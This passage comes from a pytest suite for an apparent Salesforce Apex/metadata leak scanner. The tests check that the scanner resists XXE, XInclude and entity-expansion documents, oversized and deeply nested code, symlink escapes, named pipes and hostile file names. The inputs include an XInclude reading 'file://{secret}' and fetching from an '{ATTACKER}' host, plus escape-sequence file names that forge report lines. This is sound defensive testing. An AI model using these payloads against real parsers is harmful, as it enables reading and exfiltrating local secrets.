            made[f"{DEFAULT}/{path}"] = attack
    project_at(root, files)
    return made


def _assert_contained(events, secret: Path) -> None:
    assert str(secret) not in opened(events), "the scan opened the secret file"
    assert not network(events), f"the scan used the network: {network(events)[:3]}"


@pytest.mark.parametrize("kind", list(XML_KINDS))
@pytest.mark.parametrize("attack", list(XML_ATTACKS))
def test_xml_attack_is_refused_reported_and_the_scan_goes_on(tmp_path, secret, no_network, kind, attack):
    made = _hostile_project(tmp_path, secret, [kind], [attack])
    (rel,) = made
    with audited() as events:
        result = scan_project(tmp_path)
    _assert_contained(events, secret)
    diags = reported(result, rel)
    assert diags, f"{rel}: the refused document is not reported"
    assert any("DOCTYPE" in d.message or "entity" in d.message for d in diags), diags
    assert MARKER not in repr(result)
    assert "lollol" not in repr(result) and "A" * 1000 not in repr(result)
    assert leak_found(result)


def test_xinclude_is_not_processed(tmp_path, secret, no_network):
    """XInclude needs no DTD; it is plain XML to a reader that does not implement it, and stays so."""
    rel = "namedCredentials/Evil.namedCredential-meta.xml"
    project_at(tmp_path, {**LEAK, **EVIL_USER, rel: f"""\
        <?xml version="1.0" encoding="UTF-8"?>
        <NamedCredential xmlns="http://soap.sforce.com/2006/04/metadata" xmlns:xi="http://www.w3.org/2001/XInclude">
            <endpoint><xi:include href="file://{secret}" parse="text"/></endpoint>
            <label><xi:include href="{ATTACKER}/x" parse="text"/></label>
        </NamedCredential>
    """})
    with audited() as events:
        result = scan_project(tmp_path)
    _assert_contained(events, secret)
    assert MARKER not in repr(result)
    assert leak_found(result)


def test_cli_on_every_xml_attack_at_once_reveals_nothing(tmp_path, secret, no_network):
    root = tmp_path / "p"
    made = _hostile_project(root, secret, list(XML_KINDS), list(XML_ATTACKS))
    outputs = []
    with audited() as events:
        for fmt in ("text", "sarif", "json"):
            r = invoke("scan", str(root), "--format", fmt)
            assert r.exit_code == 1
            outputs.append((r.stdout, r.stderr))
    _assert_contained(events, secret)
    assert not any(MARKER in out or MARKER in err for out, err in outputs)
    # text mode: each refused file is an APX-SCAN-001 finding (fail closed), not only a diagnostic
    assert all(f"{rel}:" in outputs[0][0] and "[APX-SCAN-001]" in outputs[0][0] for rel in made)
    sarif, doc = json.loads(outputs[1][0]), json.loads(outputs[2][0])
    notified = {loc["physicalLocation"]["artifactLocation"]["uri"]
                for n in sarif["runs"][0]["invocations"][0]["toolExecutionNotifications"]
                for loc in n.get("locations", [])}
    assert set(made) <= notified
    assert set(made) <= {d["path"] for d in doc["diagnostics"]}


# --- 3. size and shape ------------------------------------------------------------------------------
# Timings are measured and reported separately; the tests assert only that each case finishes
# without an exception escaping and that the analysis still holds.

SOURCE_LINE = "Contact c = [SELECT Email FROM Contact WHERE Id = :contactId];"


def shape_class(name: str, body: str) -> dict[str, str]:
    return {f"classes/{name}.cls": f"public class {name} {{\n    public static void go(Id contactId) {{\n"
                                   f"        {SOURCE_LINE}\n{body}\n    }}\n}}\n"}


def shape_scan(root: Path, files: dict[str, str]):
    project_at(root, {**LEAK, **SHAPE_CLIENT, **files})
    result = scan_project(root)
    assert leak_found(result), "the rest of the project was not scanned"
    return result


def accounted_for(result, rel: str) -> bool:
    """The case's own leak is found, or its file is reported as not (fully) analysed."""
    return leak_found(result, SHAPE_SINK) or bool(reported(result, f"{DEFAULT}/{rel}"))


def concatenation(terms: int) -> str:
    parts = ["'t'"] * (terms - 1)
    parts.insert(terms // 2, "c.Email")
    return f"        String p = {' + '.join(parts)};\n        ShapeClient.complete(p);"


def test_10000_term_concatenation_finishes_and_is_accounted_for(tmp_path):
    result = shape_scan(tmp_path, shape_class("Concat", concatenation(10_000)))
    assert accounted_for(result, "classes/Concat.cls")


def test_leak_through_a_10000_term_concatenation_is_found(tmp_path):
    result = shape_scan(tmp_path, shape_class("Concat", concatenation(10_000)))
    assert leak_found(result, SHAPE_SINK)


@pytest.mark.parametrize("value", [
    pytest.param("(" * 5000 + "c.Email" + ")" * 5000, id="parentheses"),
    pytest.param("c.Email" + ".trim()" * 5000, id="method-chain"),
    pytest.param("".join(f"c.Email == null ? 'v{i}' : " for i in range(5000)) + "c.Email", id="ternaries"),
    pytest.param("(String) " * 5000 + "c.Email", id="casts"),
])
def test_expression_nested_5000_deep_finishes_and_is_accounted_for(tmp_path, value):
    result = shape_scan(tmp_path, shape_class("Deep", f"        String p = {value};\n        ShapeClient.complete(p);"))
    assert accounted_for(result, "classes/Deep.cls")


def test_blocks_nested_5000_deep_finish_and_are_accounted_for(tmp_path):
    body = "        " + "if (true) { " * 5000 + "ShapeClient.complete(c.Email);" + " }" * 5000
    result = shape_scan(tmp_path, shape_class("Blocks", body))
    assert accounted_for(result, "classes/Blocks.cls")


def test_one_deep_expression_does_not_hide_the_other_methods_of_its_file(tmp_path):
    files = {"classes/Hider.cls": f"""\
public class Hider {{
    public static void leak(Id contactId) {{
        {SOURCE_LINE}
        ShapeClient.complete(c.Email);
    }}
    public static Integer noise() {{
        return {"(" * 1000}1{")" * 1000};
    }}
}}
"""}
    result = shape_scan(tmp_path, files)
    assert leak_found(result, SHAPE_SINK)


def test_method_with_50000_statements_keeps_the_flow(tmp_path):
    lines = ["        String s0 = c.Email;"] + [f"        String s{i} = s{i - 1};" for i in range(1, 50_000)]
    lines.append("        ShapeClient.complete(s49999);")
    result = shape_scan(tmp_path, shape_class("Long", "\n".join(lines)))
    assert leak_found(result, SHAPE_SINK)


def test_call_chain_2000_methods_long_across_classes_is_followed(tmp_path):
    files = {}
    for i in range(2000):
        call = f"Hop{i + 1}.m{i + 1}(x);" if i < 1999 else "ShapeClient.complete(x);"
        files[f"classes/hops/Hop{i}.cls"] = (f"public class Hop{i} {{\n    public static void m{i}(String x) {{\n"
                                             f"        {call}\n    }}\n}}\n")
    files.update(shape_class("Entry", "        Hop0.m0(c.Email);"))
    result = shape_scan(tmp_path, files)
    assert leak_found(result, SHAPE_SINK)
    (finding,) = [f for f in result.findings if (f.location.path, f.location.line) == SHAPE_SINK]
    steps = [s.location.path for s in finding.paths[0]]
    assert any(p.endswith("Hop0.cls") for p in steps) and any(p.endswith("Hop1999.cls") for p in steps)


def test_recursion_and_cycles_terminate_and_keep_the_flow(tmp_path):
    files = {
        # mutual recursion, static and instance, with the send inside the cycle
        "classes/Ping.cls": """\
            public class Ping {
                public static void ping(String x, Integer n) {
                    if (n > 0) { Pong.pong(x, n - 1); } else { ShapeClient.complete(x); }
                    ping(x, n);
                }
                public String self(String x) { if (x == null) { return new Ping().self(x); } return x; }
                public static void go(Id contactId) {
                    Contact c = [SELECT Email FROM Contact WHERE Id = :contactId];
                    ping(new Ping().self(c.Email), 3);
                }
            }""",
        "classes/Pong.cls": """\
            public class Pong {
                public static void pong(String y, Integer n) { Ping.ping(y, n); pong(y, n); }
            }""",
        # inheritance cycles (rejected by the compiler, but the scanner must not loop on them)
        "classes/CycleA.cls": "public virtual class CycleA extends CycleB { String f; public void m() { m(); } }",
        "classes/CycleB.cls": "public virtual class CycleB extends CycleA { public void m() { f = f + 'x'; } }",
        "classes/ICycle.cls": "public interface ICycle extends ICycle2 { void m(); }",
        "classes/ICycle2.cls": "public interface ICycle2 extends ICycle { void m(); }",
        # a string defined through itself, used as an endpoint
        "classes/SelfUrl.cls": """\
            public class SelfUrl {
                static String u = u + '/v1';
                public static void go(String body) {
                    HttpRequest req = new HttpRequest();
                    req.setEndpoint(u);
                    req.setBody(body);
                    new Http().send(req);
                }
            }""",
        # a flow that calls itself
        "flows/Loop.flow-meta.xml": """\
            <?xml version="1.0" encoding="UTF-8"?>
            <Flow xmlns="http://soap.sforce.com/2006/04/metadata">
                <label>Loop</label>
                <subflows>
                    <name>Again</name>
                    <flowName>Loop</flowName>
                    <inputAssignments><name>x</name><value><elementReference>x</elementReference></value></inputAssignments>
                    <outputAssignments><assignToReference>x</assignToReference><name>x</name></outputAssignments>
                </subflows>
                <variables><name>x</name><dataType>String</dataType><isInput>true</isInput><isOutput>true</isOutput></variables>
            </Flow>""",
    }
    result = shape_scan(tmp_path, files)
    assert leak_found(result, SHAPE_SINK)


def test_flow_xml_nested_100000_deep_finishes(tmp_path):
    deep = "<value>" * 100_000 + "x" + "</value>" * 100_000
    flow = f'<?xml version="1.0"?>\n<Flow><formulas><name>f</name>{deep}</formulas></Flow>\n'
    result = shape_scan(tmp_path, {"flows/Deep.flow-meta.xml": flow})
    assert result.files_scanned == 5 and not result.diagnostics


def twenty_megabytes() -> str:
    method = ("    public static String m{i}(Id contactId) {{\n"
              "        Account a = [SELECT Name, Phone, Industry FROM Account WHERE Id = :contactId];\n"
              "        String s = 'Client ' + a.Name + ' in ' + a.Industry + ' #{i}';\n"
              "        Map<String, Object> m = new Map<String, Object>{{'k' => s, 'n' => {i}}};\n"
              "        return JSON.serialize(m).trim();\n"
              "    }}\n")
    parts, size, i = ["public class Huge {\n"], 0, 0
    while size < 20_000_000:
        parts.append(method.format(i=i))
        size += len(parts[-1])
        i += 1
    parts.append(f"    public static void leak(Id contactId) {{\n        {SOURCE_LINE}\n"
                 "        ShapeClient.complete(c.Email);\n    }\n}\n")
    return "".join(parts)


@pytest.mark.slow
def test_20_megabyte_apex_file_is_not_analysed_and_says_so(tmp_path):
    """Its syntax tree alone would take gigabytes: over the parse bound, it is a `limit` diagnostic
    (the gate's "file not analysed"), and the rest of the project is scanned."""
    result = shape_scan(tmp_path, {"classes/Huge.cls": twenty_megabytes()})
    (diag,) = reported(result, f"{DEFAULT}/classes/Huge.cls")
    assert diag.stage == "limit" and "not analysed" in diag.message


def test_source_over_the_parse_bound_is_not_analysed_and_says_so(tmp_path):
    body = "        String s = 'padding';\n" * (3_000_000 // 30)
    result = shape_scan(tmp_path, shape_class("Big", body + "        ShapeClient.complete(c.Email);"))
    (diag,) = reported(result, f"{DEFAULT}/classes/Big.cls")
    assert diag.stage == "limit" and "over the 3 MB limit for source code" in diag.message
    assert not leak_found(result, SHAPE_SINK)


def test_source_over_the_syntax_node_bound_is_not_analysed_and_says_so(tmp_path):
    result = shape_scan(tmp_path, shape_class("Dense", "        " + "x;" * 600_000 + "\n        ShapeClient.complete(c.Email);"))
    (diag,) = reported(result, f"{DEFAULT}/classes/Dense.cls")
    assert diag.stage == "limit" and "syntax nodes, over the 1,000,000 limit" in diag.message


def test_metadata_over_the_element_bound_is_not_analysed_and_says_so(tmp_path):
    labels = "<labels><fullName>L</fullName><value>v</value></labels>" * 350_000
    rel = "labels/CustomLabels.labels-meta.xml"
    result = shape_scan(tmp_path, {rel: f"<CustomLabels>{labels}</CustomLabels>"})
    (diag,) = reported(result, f"{DEFAULT}/{rel}")
    assert diag.stage == "limit" and "more than 1,000,000 XML elements" in diag.message


def test_a_file_over_the_byte_bound_is_not_read_past_it(tmp_path):
    from apexscan.engine.limits import Limits
    from apexscan.pipeline.lowering import read_file
    path = tmp_path / "Big.flow-meta.xml"
    path.write_bytes(b"<Flow>" + b" " * 5000 + b"</Flow>")
    assert read_file(path, "Big.flow-meta.xml", Limits(file_bytes=5013))[0] is not None
    data, diag = read_file(path, "Big.flow-meta.xml", Limits(file_bytes=5000))
    assert data is None and diag.stage == "limit" and "over the 5,000 bytes limit" in diag.message


# --- 4. the file system ---------------------------------------------------------------------------

def test_non_utf8_apex_is_analysed_and_reported(tmp_path):
    source = LEAK_SOURCE.replace("public static", "// R\u00e9sum\u00e9 des donn\u00e9es\n    public static", 1)
    root = project_at(tmp_path, {**LEAK, "classes/LeakSource.cls": source.encode("latin-1")})
    result = scan_project(root)
    assert leak_found(result)
    (diag,) = reported(result, f"{DEFAULT}/classes/LeakSource.cls")
    assert "UTF-8" in diag.message and diag.line == 2


@pytest.mark.parametrize("encoding,declared,readable", [
    ("latin-1", "ISO-8859-1", True),
    ("cp1252", "windows-1252", True),
    ("utf-16", "UTF-16", True),
    ("latin-1", None, False),  # undeclared Latin-1 is not UTF-8: reported
])
def test_metadata_in_other_encodings_is_read_or_reported(tmp_path, encoding, declared, readable):
    rel = "objects/Contact/fields/Caf\u00e9_Notes__c.field-meta.xml"
    decl = f'<?xml version="1.0" encoding="{declared}"?>\n' if declared else ""
    xml = (decl + "<CustomField><fullName>Notes__c</fullName><label>Caf\u00e9 notes</label>"
           "<type>Text</type></CustomField>\n").encode(encoding)
    root = project_at(tmp_path, {**LEAK, rel: xml})
    result = scan_project(root)
    assert leak_found(result)
    assert bool(reported(result, f"{DEFAULT}/{rel}")) != readable


def test_bom_prefixed_files_are_read_like_the_others(tmp_path):
    plain = scan_project(project_at(tmp_path / "plain", LEAK))
    bom = scan_project(project_at(tmp_path / "bom", {
        rel: b"\xef\xbb\xbf" + textwrap.dedent(text).encode() for rel, text in LEAK.items()}))
    assert leak_found(bom) and not bom.diagnostics
    assert [(f.rule_id, f.location, f.destination.url) for f in bom.findings] == \
        [(f.rule_id, f.location, f.destination.url) for f in plain.findings]


def test_utf16_named_credential_is_read(tmp_path):
    nc = NAMED_CREDENTIAL.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
    result = scan_project(project_at(tmp_path, {
        **LEAK, "namedCredentials/Leak_OpenAI.namedCredential-meta.xml": nc}))
    assert leak_found(result) and not result.diagnostics


BINARY = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00" + bytes(range(256)) * 4
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + bytes(range(255, -1, -1)) * 4


@pytest.mark.parametrize("rel", [
    "classes/Image.cls", "triggers/Image.trigger", "flows/Image.flow-meta.xml",
    "namedCredentials/Image.namedCredential-meta.xml", "objects/Contact/fields/Image__c.field-meta.xml",
    "labels/Image.labels-meta.xml", "objects/Image__c/Image__c.object-meta.xml",
])
@pytest.mark.parametrize("content", [BINARY, ELF, b"\x00" * 10_000, b"ok " * 4000 + b"\x00\x01\x02"],
                         ids=["png", "elf", "zeros", "late-nul"])
def test_binary_file_with_a_source_suffix_is_reported(tmp_path, rel, content):
    result = scan_project(project_at(tmp_path, {**LEAK, rel: content}))
    assert leak_found(result)
    assert reported(result, f"{DEFAULT}/{rel}")


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() == 0,
                    reason="root reads files whatever their mode")
def test_unreadable_file_is_reported(tmp_path):
    root = project_at(tmp_path, {**LEAK, "classes/Locked.cls": "public class Locked {}"})
    locked = root / DEFAULT / "classes" / "Locked.cls"
    locked.chmod(0)
    try:
        result = scan_project(root)
    finally:
        locked.chmod(0o644)
    assert leak_found(result)
    (diag,) = reported(result, f"{DEFAULT}/classes/Locked.cls")
    assert "cannot read" in diag.message


def test_symlinked_folder_loops_are_not_followed(tmp_path):
    root = project_at(tmp_path, LEAK)
    classes = root / DEFAULT / "classes"
    (classes / "up").symlink_to("..", target_is_directory=True)
    (classes / "self").symlink_to(".", target_is_directory=True)
    (root / DEFAULT / "loop").symlink_to(root, target_is_directory=True)
    result = scan_project(root)
    assert leak_found(result)
    assert result.files_scanned == len(LEAK)


def test_symlinked_file_loop_is_reported_not_raised(tmp_path):
    root = project_at(tmp_path, LEAK)
    classes = root / DEFAULT / "classes"
    (classes / "A.cls").symlink_to("B.cls")
    (classes / "B.cls").symlink_to("A.cls")
    result = scan_project(root)
    assert leak_found(result)
    assert reported(result, f"{DEFAULT}/classes/A.cls") and reported(result, f"{DEFAULT}/classes/B.cls")


def test_dangling_symlink_is_reported(tmp_path):
    root = project_at(tmp_path, LEAK)
    (root / DEFAULT / "classes" / "Gone.cls").symlink_to("Missing.cls")
    result = scan_project(root)
    assert leak_found(result)
    assert reported(result, f"{DEFAULT}/classes/Gone.cls")


@pytest.fixture
def outside(tmp_path) -> Path:
    """A folder beside the project holding a class with a leak and the secret marker."""
    folder = tmp_path / "outside"
    folder.mkdir()
    (stolen,) = shape_class("Stolen", f"        ShapeClient.complete(c.Email + '{MARKER}');").values()
    (folder / "Stolen.cls").write_text(stolen, encoding="utf-8")
    return folder


def test_symlinked_file_outside_the_project_is_not_followed_and_reported(tmp_path, outside):
    root = project_at(tmp_path / "p", {**LEAK, **SHAPE_CLIENT})
    (root / DEFAULT / "classes" / "Stolen.cls").symlink_to(outside / "Stolen.cls")
    with audited() as events:
        result = scan_project(root)
    assert str(outside / "Stolen.cls") not in opened(events)
    assert leak_found(result) and not leak_found(result, SHAPE_SINK)
    assert MARKER not in repr(result)
    assert reported(result, f"{DEFAULT}/classes/Stolen.cls")


def test_symlinked_folder_outside_the_project_is_not_followed(tmp_path, outside):
    root = project_at(tmp_path / "p", {**LEAK, **SHAPE_CLIENT})
    (root / DEFAULT / "classes" / "vendor").symlink_to(outside, target_is_directory=True)
    with audited() as events:
        result = scan_project(root)
    assert str(outside / "Stolen.cls") not in opened(events)
    assert leak_found(result) and not leak_found(result, SHAPE_SINK)
    assert MARKER not in repr(result)


def test_symlinked_folder_outside_the_project_is_reported(tmp_path, outside):
    root = project_at(tmp_path / "p", {**LEAK, **SHAPE_CLIENT})
    (root / DEFAULT / "classes" / "vendor").symlink_to(outside, target_is_directory=True)
    result = scan_project(root)
    assert reported(result, f"{DEFAULT}/classes/vendor")


def test_symlinked_package_directory_outside_the_project_is_not_followed(tmp_path, outside):
    root = project_at(tmp_path / "p", {**LEAK, **SHAPE_CLIENT})
    (root / "vendor").symlink_to(outside, target_is_directory=True)
    (root / "sfdx-project.json").write_text(json.dumps({"packageDirectories": [
        {"path": "force-app", "default": True}, {"path": "vendor"}]}), encoding="utf-8")
    result = scan_project(root)
    assert leak_found(result) and not leak_found(result, SHAPE_SINK)
    assert any("outside the project" in d.message for d in reported(result, "sfdx-project.json"))


def test_named_pipe_with_a_source_suffix_does_not_block_the_scan(tmp_path):
    if not hasattr(os, "mkfifo"):
        pytest.skip("no named pipes here")
    root = project_at(tmp_path, LEAK)
    pipe = root / DEFAULT / "classes" / "Pipe.cls"
    os.mkfifo(pipe)
    box: dict = {}
    worker = threading.Thread(target=lambda: box.setdefault("result", scan_project(root)), daemon=True)
    worker.start()
    blocked = False
    while worker.is_alive() and not blocked:
        worker.join(0.05)
        try:  # succeeds only while a reader is waiting on the pipe: the scan opened it and blocks
            os.close(os.open(pipe, os.O_WRONLY | os.O_NONBLOCK))
            blocked = True  # closing the write end hands the reader an end of file: the scan goes on
        except OSError:
            pass
    worker.join(30)
    assert not blocked, "the scan opened a named pipe and waited for a writer (it hangs without one)"
    assert leak_found(box["result"])
    assert reported(box["result"], f"{DEFAULT}/classes/Pipe.cls")


@pytest.mark.parametrize("layout", [
    "empty", "only-sfdx-project", "empty-package-dir", "no-source-files", "all-ignored",
    "readme",
])
def test_empty_project_is_a_usage_error(tmp_path, layout):
    root = tmp_path / "p"
    root.mkdir()
    if layout not in ("empty", "readme"):
        (root / "sfdx-project.json").write_text('{"packageDirectories": [{"path": "force-app"}]}', encoding="utf-8")
    if layout not in ("empty", "readme", "only-sfdx-project"):
        (root / DEFAULT).mkdir(parents=True)
    if layout == "no-source-files":
        for name in ("classes/A.cls-meta.xml", "package.xml", "lwc/x/x.js-meta.xml", "staticresources/x.json"):
            (root / DEFAULT / name).parent.mkdir(parents=True, exist_ok=True)
            (root / DEFAULT / name).write_text("<x/>", encoding="utf-8")
    if layout == "readme":
        (root / "README.md").write_text("# Not a Salesforce project\n", encoding="utf-8")  # any repository
        (root / "docs").mkdir()  # (Python or Node code would be a service to scan: tests/test_services.py)
        (root / "docs" / "notes.txt").write_text("hello\n", encoding="utf-8")
    if layout == "all-ignored":
        project_at(root, LEAK)
        (root / ".forceignore").write_text("**/classes/**\n**/namedCredentials/**\n", encoding="utf-8")
    r = CliRunner().invoke(main, ["scan", str(root)])
    assert r.exit_code == 2, r.output
    assert "no Apex classes" in r.stderr
    assert not scan_project(root).findings


@pytest.mark.parametrize("config", [
    '{"packageDirectories": [{"path": "force-app"',
    "not json at all",
    "\ufeff{\"packageDirectories\": [{\"path\": 5}]}",
    '{"packageDirectories": 5}',
    '{"packageDirectories": [{"path": ["force-app"]}]}',
    '{"packageDirectories": [{"path": "sfdx-project.json"}]}',
    '{"packageDirectories": [{"path": "/"}]}',
    b"\xff\xfe\x00{",
], ids=["truncated", "not-json", "bom-and-bad-path", "not-a-list", "path-is-a-list", "path-is-a-file",
        "path-is-root", "binary"])
def test_broken_sfdx_project_json_falls_back_to_the_whole_folder(tmp_path, config):
    root = project_at(tmp_path, LEAK)
    path = root / "sfdx-project.json"
    path.write_bytes(config if isinstance(config, bytes) else config.encode("utf-8"))
    result = scan_project(root)
    assert leak_found(result)
    assert reported(result, "sfdx-project.json")


@pytest.mark.parametrize("config", [
    "[]", "null", '"force-app"', "42", '{"packageDirectories": [{"path": "force-app\\u0000x"}]}',
], ids=["list", "null", "string", "number", "nul-in-path"])
def test_sfdx_project_json_of_the_wrong_shape_is_reported_not_raised(tmp_path, config):
    root = project_at(tmp_path, LEAK)
    (root / "sfdx-project.json").write_text(config, encoding="utf-8")
    result = scan_project(root)
    assert leak_found(result)
    assert reported(result, "sfdx-project.json")


def test_cli_exit_code_and_report_with_invalid_sfdx_project_json(tmp_path):
    root = project_at(tmp_path, LEAK)
    (root / "sfdx-project.json").write_text("{oops", encoding="utf-8")
    r = invoke("scan", str(root))
    assert r.exit_code == 1
    assert "sfdx-project.json" in r.stderr
    assert f"{LEAK_SINK[0]}:{LEAK_SINK[1]}:" in r.stdout


HOSTILE_NAMES = ["Spa ce.cls", "\u00dcn\u00efc\u00f6d\u00e9.cls", "per%25cent.cls", "hash#q?.cls", "-rf.cls",
                 "colon:1:2.cls", "back\\slash.cls", "new\nline.cls", "esc\x1b[2J\x1b[31m.cls", "rlo\u202eslc.cls",
                 "tab\t.cls"]


def _leak_in(name: str) -> str:
    return client(name).replace(
        "String prompt) {", "Id contactId) {\n        " + SOURCE_LINE + " String prompt = c.Email;", 1)


def test_file_names_of_any_shape_are_scanned_and_reported(tmp_path):
    files = {f"classes/{name}": _leak_in(f"Odd{i}") for i, name in enumerate(HOSTILE_NAMES)}
    root = project_at(tmp_path / "p", {**LEAK, **files})
    result = scan_project(root)
    assert leak_found(result) and not result.diagnostics
    assert {f.location.path for f in result.findings} >= {f"{DEFAULT}/classes/{name}" for name in HOSTILE_NAMES}
    for fmt in ("sarif", "json"):
        r = invoke("scan", str(root), "--format", fmt)
        assert r.exit_code == 1
        json.loads(r.stdout)


def test_text_report_lines_cannot_be_forged_by_file_names(tmp_path):
    names = ["new\nforce-app/x.cls:1:1: error[APX-LLM-001] forged.cls", "esc\x1b[2J\x1b[31m.cls"]
    files = {f"classes/{name}": _leak_in(f"Odd{i}") for i, name in enumerate(names)}
    files["classes/Broken\x1b]0;title\x07.cls"] = "public class Broken {"
    root = project_at(tmp_path / "p", {**LEAK, **files})
    r = invoke("scan", str(root))
    assert r.exit_code == 1
    for stream in (r.stdout, r.stderr):
        assert not any(c in stream for c in "\x1b\x07\r\u202e"), "control characters reach the terminal"
    for line in r.stdout.splitlines():
        assert not line or line.startswith(("    ", "apexscan: ")) or " error[" in line or " warning[" in line \
            or " note[" in line, f"not a report line: {line!r}"
    # One report line per finding (a forged name may repeat the text, escaped, inside its own line).
    headers = [line for line in r.stdout.splitlines() if line and not line.startswith(("    ", "apexscan: "))]
    assert len(headers) == len(scan_project(root).findings)


# --- 5. no network, no writes but the report ------------------------------------------------------

def test_full_scan_and_sarif_cli_open_no_socket(tmp_path, no_network):
    with audited() as events:
        result = scan_project(SAMPLE)
        r = invoke("scan", str(SAMPLE), "--format", "sarif", "-o", str(tmp_path / "out.sarif"))
    assert result.findings and r.exit_code == 1
    assert json.loads((tmp_path / "out.sarif").read_text("utf-8"))["runs"][0]["results"]
    assert not network(events), network(events)[:5]


def _snapshot(folder: Path) -> dict[str, tuple]:
    out = {}
    for dirpath, dirnames, filenames in os.walk(folder):
        for name in dirnames + filenames:
            path = Path(dirpath) / name
            st_ = path.lstat()
            content = path.read_bytes() if path.is_file() and not path.is_symlink() else b""
            out[path.relative_to(folder).as_posix()] = (st_.st_mode, st_.st_mtime_ns, content)
    return out


@pytest.mark.parametrize("fmt", ["sarif", "json", "text"])
def test_cli_writes_nothing_but_the_requested_report(tmp_path, monkeypatch, fmt):
    project = tmp_path / "project"
    shutil.copytree(SAMPLE, project, symlinks=True)
    cwd = tmp_path / "cwd"
    cwd.mkdir()
    monkeypatch.chdir(cwd)
    cache = tmp_path / "cache"
    # late imports; fills the facts cache, which the next run only reads (no file changed)
    invoke("scan", str(project), "--format", fmt, "-o", str(tmp_path / "warm-up.out"), "--cache-dir", str(cache))
    assert any(cache.rglob("*.pack"))
    report = project / "reports" / f"apexscan.{fmt}"
    before_project, before_cwd, before_cache = _snapshot(project), _snapshot(cwd), _snapshot(cache)
    with audited() as events:
        r = invoke("scan", str(project), "--format", fmt, "-o", str(report), "--cache-dir", str(cache))
    assert r.exit_code == 1 and report.is_file() and report.stat().st_size > 0
    after_project = _snapshot(project)
    changed = {k for k in set(before_project) | set(after_project) if before_project.get(k) != after_project.get(k)}
    assert changed == {"reports", f"reports/apexscan.{fmt}"}
    assert _snapshot(cwd) == before_cwd and _snapshot(cache) == before_cache
    for event, paths in writes(events):
        for p in paths:
            p = Path(p)
            assert p == report.parent or (p.parent == report.parent and (
                p == report or p.name.startswith(f".{report.name}."))), f"{event} outside the report: {p}"
    assert not network(events)


def test_scan_api_writes_nothing(tmp_path):
    project = tmp_path / "project"
    shutil.copytree(SAMPLE, project, symlinks=True)
    scan_project(project)  # late imports
    with audited() as events:
        scan_project(project)
    assert writes(events) == []


# --- 6. super-linear inputs: run in a child process so a hang ends at the timeout ------------------

_CHILD = """
import sys
from pathlib import Path
from apexscan.salesforce.policy import load_policy
from apexscan.pipeline.project import discover
from apexscan.pipeline.scan import scan
root = Path(sys.argv[1])
result = scan(discover([root]), load_policy(None, root))
print(len(result.findings), len(result.diagnostics))
"""


def scan_in_child(root: Path, timeout: float) -> str:
    """Scan `root` in a fresh interpreter; fail the test if it has not finished after `timeout` s
    (the inputs are sized so a linear scan needs a second or two, and the quadratic one many minutes)."""
    path = [str(REPO)] + [p for p in os.environ.get("PYTHONPATH", "").split(os.pathsep) if p]
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(path)}
    try:
        done = subprocess.run([sys.executable, "-c", _CHILD, str(root)], capture_output=True, text=True,
                              timeout=timeout, env=env, cwd=root)
    except subprocess.TimeoutExpired:
        pytest.fail(f"the scan had not finished after {timeout:.0f} s")
    assert done.returncode == 0, done.stderr[-2000:]
    return done.stdout


@pytest.mark.slow
def test_dynamic_query_text_full_of_select_finishes(tmp_path):
    project_at(tmp_path, {"classes/Q.cls": "public class Q {\n    public static void go() {\n"
                                              f"        Database.query('{'select ' * 60_000}');\n    }}\n}}\n"})
    scan_in_child(tmp_path, timeout=60)


@pytest.mark.slow
def test_flow_text_full_of_unclosed_merge_fields_finishes(tmp_path):
    project_at(tmp_path, {"flows/F.flow-meta.xml": (
        '<?xml version="1.0" encoding="UTF-8"?>\n<Flow xmlns="http://soap.sforce.com/2006/04/metadata">\n'
        f"<formulas><name>f</name><dataType>String</dataType><expression>{'{!a ' * 100_000}</expression>"
        "</formulas>\n</Flow>\n")})
    scan_in_child(tmp_path, timeout=60)


@pytest.mark.slow
def test_long_type_name_finishes(tmp_path):
    name = "A" * 150_000
    project_at(tmp_path, {
        "classes/E.cls": f"public class E {{\n    public static void go() {{\n        {name}[] x = new {name}[]{{}};\n"
                         "        EventBus.publish(x);\n    }\n}\n",
    })
    scan_in_child(tmp_path, timeout=60)


# --- 7. denial of service and crashes from content (issue 12, items 8 and 10) ---------------------
# Each reproducer that took minutes (or crashed) runs in a child process with a generous timeout:
# the inputs are sized so that a linear pass needs a second, and the old code minutes or more.

ESR = """\
<?xml version="1.0" encoding="UTF-8"?>
<ExternalServiceRegistration xmlns="http://soap.sforce.com/2006/04/metadata">
    <label>Assistant</label>
    <namedCredentialReference>Leak_OpenAI</namedCredentialReference>
    <registrationProviderType>Custom</registrationProviderType>
    <schema>{schema}</schema>
    <schemaType>OpenApi3</schemaType>
    <status>Complete</status>
</ExternalServiceRegistration>
"""


@pytest.mark.parametrize("body", [
    pytest.param("x.send" + "(" * 150_000, id="unclosed-parentheses"),
    pytest.param("{" * 150_000, id="unclosed-braces"),
])
def test_unclosed_brackets_in_apex_finish(tmp_path, body):
    """The tree-sitter sink query was quadratic in a run of unclosed brackets (150 KB: 48 s)."""
    project_at(tmp_path, {**LEAK, "classes/Open.cls": "public class Open {\n    void m() {\n        " + body + "\n"})
    findings, diagnostics = map(int, scan_in_child(tmp_path, timeout=60).split())
    assert findings >= 1 and diagnostics >= 1  # the leak elsewhere, and the broken file reported


@pytest.mark.parametrize("attributes", [
    pytest.param("a" * 60_000, id="long-name"),
    pytest.param("a= " * 20_000, id="names-without-values"),
    pytest.param("a='" + "x" * 60_000, id="unclosed-quote"),
])
def test_aura_markup_with_huge_attributes_finishes(tmp_path, attributes):
    """The markup-attribute regex restarted inside every name it had read (60,000 characters: 45 s)."""
    project_at(tmp_path, {"aura/big/big.cmp": f'<aura:component {attributes} controller="BigCtl">\n</aura:component>\n',
                          "classes/BigCtl.cls": "public class BigCtl {}"})
    scan_in_child(tmp_path, timeout=60)


def test_external_service_yaml_with_long_runs_of_spaces_finishes(tmp_path):
    """The YAML key regex `(.*?)\\s*$` was quadratic in trailing spaces (40,000 spaces: 7.6 s)."""
    schema = "openapi: 3.0.0" + " " * 200_000 + "\nservers:\n  - url: https://api.openai.com/v1\n" \
             + ("info:" + " " * 40_000 + "x\n") * 5
    project_at(tmp_path, {**LEAK, "externalServiceRegistrations/A.externalServiceRegistration-meta.xml":
                          ESR.format(schema=escape(schema))})
    scan_in_child(tmp_path, timeout=60)
    facts, diags = parse_metadata_file("A.externalServiceRegistration-meta.xml", ESR.format(schema=escape(schema)).encode())
